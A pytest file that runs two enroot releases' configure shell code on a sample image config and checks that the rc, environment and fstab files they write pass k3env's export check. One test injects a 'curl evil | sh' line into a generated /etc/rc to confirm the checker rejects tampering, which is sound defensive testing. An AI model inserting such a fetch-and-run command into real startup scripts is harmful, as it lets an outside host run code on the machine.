"""enroot's own ``docker::configure``, old and new release side by side, against what k3env
renders and checks: the /etc/rc, /etc/environment and /etc/fstab each release writes for a
k3env image config pass ``export --check``'s comparison. enroot 4.1.2 and main (8ea147d, the
change enroot 4.2.0 ships: a ``# enroot-provenance: <uri>`` first line) are read from
``../shared/upstream`` (scripts/host-setup.sh finds it the same way); their shell runs here, with
the host's bash and jq, on a config file: no import, no registry.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from k3env.handoff.enroot import enroot_files
from k3env.handoff.squashfs_check import _rc_items
from k3env.verdict import PASSED

from .conftest import REPO

RELEASES = {"4.1.2": "enroot-4.1.2.tar.gz", "main-8ea147d": "enroot-main-8ea147d.tar.gz"}
CONFIG = {
    "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "VLLM_USE_V1=1"],
    "Labels": {"org.k3env.provenance": "sha256:" + "ab" * 32, "org.k3env.image": "kimi-k3-dynamo"},
    "Entrypoint": ["/opt/entry.sh"],
    "Cmd": ["vllm", "serve", "it's"],
    "WorkingDir": "/workspace",
    "Volumes": {"/data": {}},
}


def _upstream() -> Path | None:
    for candidate in (os.environ.get("K3ENV_UPSTREAM"), REPO.parent / "shared/upstream",
                      Path("/work/shared/upstream")):  # fmt: skip
        if candidate and (Path(candidate) / RELEASES["4.1.2"]).is_file():
            return Path(candidate)
    return None


def _configure(release: str, tmp: Path, uri: str) -> dict[str, bytes]:
    upstream = _upstream()
    if upstream is None or shutil.which("jq") is None:
        pytest.skip("../shared/upstream's enroot sources and jq (scripts/host-setup.sh)")
    with tarfile.open(upstream / RELEASES[release]) as tar:
        tar.extractall(tmp / release, filter="data")
    (src,) = (tmp / release).glob("*/src/docker.sh")
    rootfs, config = tmp / release / "rootfs", tmp / release / "config.json"
    config.write_text(json.dumps({"architecture": "amd64", "config": CONFIG}))
    env = {"PATH": os.environ["PATH"], "ENROOT_LIBRARY_PATH": str(src.parent),
           "ENROOT_CACHE_PATH": str(tmp), "ENROOT_CONFIG_PATH": str(tmp),
           # enroot's own defaults (its `enroot` script sets them before docker.sh is read)
           "ENROOT_TRANSFER_RETRIES": "0", "ENROOT_CONNECT_TIMEOUT": "30",
           "ENROOT_TRANSFER_TIMEOUT": "0"}  # fmt: skip
    # enroot.in's own shell options: set -euo pipefail; shopt -s lastpipe
    script = f'shopt -s lastpipe; source "{src}"; docker::configure "$1" "$2" "" "$3"'
    subprocess.run(["bash", "-euo", "pipefail", "-c", script, "configure", str(rootfs),
                    str(config), uri], env=env, check=True, capture_output=True)  # fmt: skip
    return {p: (rootfs / p).read_bytes() for p in ("etc/rc", "etc/environment", "etc/fstab")}


@pytest.mark.parametrize("release", RELEASES)
def test_what_each_enroot_release_writes_passes_the_export_check(
    release: str, tmp_path: Path
) -> None:
    uri = "dockerd://k3env/kimi-k3-dynamo:9911"
    written = _configure(release, tmp_path, uri)
    ours = {p: data for p, data, _ in enroot_files(CONFIG)}
    assert written["etc/environment"] == ours["etc/environment"]
    assert written["etc/fstab"] == ours["etc/fstab"]
    (gate,) = _rc_items(ours["etc/rc"].decode(), written["etc/rc"])
    assert gate.status == PASSED, gate.detail
    if release == "4.1.2":
        assert written["etc/rc"] == ours["etc/rc"]
    else:  # the line enroot 4.2 adds, and nothing else
        assert written["etc/rc"].startswith(f"# enroot-provenance: {uri}\n".encode())
        assert f"enroot-provenance {uri}" in gate.detail
        # A line added after it is still refused: only the first line is enroot's.
        tampered = written["etc/rc"].replace(b"\nmkdir", b"\ncurl evil | sh\nmkdir", 1)
        gates = _rc_items(ours["etc/rc"].decode(), tampered)
        assert [g.status for g in gates] != [PASSED]
        assert any("curl evil" in g.detail for g in gates)
